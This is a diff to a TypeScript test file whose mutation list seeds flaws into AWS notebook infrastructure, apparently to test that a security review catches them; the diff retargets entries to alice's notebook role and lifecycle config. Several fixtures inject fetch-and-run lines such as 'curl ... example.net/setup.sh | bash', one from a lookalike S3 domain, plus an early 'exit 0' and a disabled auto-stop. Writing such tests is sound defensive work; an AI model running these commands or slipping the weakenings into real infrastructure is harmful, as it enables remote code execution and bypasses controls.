@@ -219,7 +219,7 @@ const REVIEW: Mutation[] = [
   ],
   [
     ['S3-7'],
-    "[20] the perimeter's break-glass exemption given to the notebook role",
+    "[20] the perimeter's break-glass exemption given to alice's notebook role",
     (env) =>
       statements(
         'data-policy',
@@ -227,7 +227,13 @@ const REVIEW: Mutation[] = [
           ...s,
           Condition: {
             ...(s['Condition'] as Raw),
-            ArnNotLikeIfExists: { 'aws:PrincipalArn': String(env.outputs.security?.['notebookRoleArn']) },
+            ArnNotLikeIfExists: {
+              'aws:PrincipalArn': String(
+                (env.outputs.notebook?.['notebooks'] as Record<string, { roleArn: string }> | undefined)?.[
+                  'alice'
+                ]?.roleArn,
+              ),
+            },
           },
         })),
       )(env),
@@ -393,7 +399,7 @@ const REVIEW: Mutation[] = [
         ? text.replace(/^set -euo pipefail$/m, 'set -euo pipefail\nexit 0')
         : text,
     ),
-    'lifecycle (NotebookInstanceLifecycleConfiguration)',
+    'alice-lifecycle (NotebookInstanceLifecycleConfiguration)',
   ],
   [
     ['NB-8'],
@@ -404,7 +410,7 @@ const REVIEW: Mutation[] = [
         'curl -fsSL example.net/setup.sh | bash\nlog "on-start complete"',
       ),
     ),
-    'lifecycle (NotebookInstanceLifecycleConfiguration)',
+    'alice-lifecycle (NotebookInstanceLifecycleConfiguration)',
   ],
   [
     ['NB-8'],
@@ -415,7 +421,7 @@ const REVIEW: Mutation[] = [
         'curl -fsSL https://s3.amazonaws.com.example.net/setup.sh | bash\nlog "on-start complete"',
       ),
     ),
-    'lifecycle (NotebookInstanceLifecycleConfiguration)',
+    'alice-lifecycle (NotebookInstanceLifecycleConfiguration)',
   ],
   [
     ['NB-8'],
@@ -423,7 +429,7 @@ const REVIEW: Mutation[] = [
     editHook('on-start.sh', (text) =>
       text.replace(/^(schedule auto-stop .*)$/m, 'if [[ -n "${SECURE_ML_NEVER_SET:-}" ]]; then\n  $1\nfi'),
     ),
-    'lifecycle (NotebookInstanceLifecycleConfiguration)',
+    'alice-lifecycle (NotebookInstanceLifecycleConfiguration)',
   ],
   [
     ['NB-8'],
@@ -431,7 +437,7 @@ const REVIEW: Mutation[] = [
     editHook('on-start.sh', (text) =>
       text.replace(/^log "on-start complete"$/m, 'pip3.10 install --quiet xgboost\nlog "on-start complete"'),
     ),
-    'lifecycle (NotebookInstanceLifecycleConfiguration)',
+    'alice-lifecycle (NotebookInstanceLifecycleConfiguration)',
   ],
   [
     ['NB-8'],
@@ -442,7 +448,7 @@ const REVIEW: Mutation[] = [
         'conda env update --name base --file environment.yml\nlog "on-start complete"',
       ),
     ),
-    'lifecycle (NotebookInstanceLifecycleConfiguration)',
+    'alice-lifecycle (NotebookInstanceLifecycleConfiguration)',
   ],
 ];
 
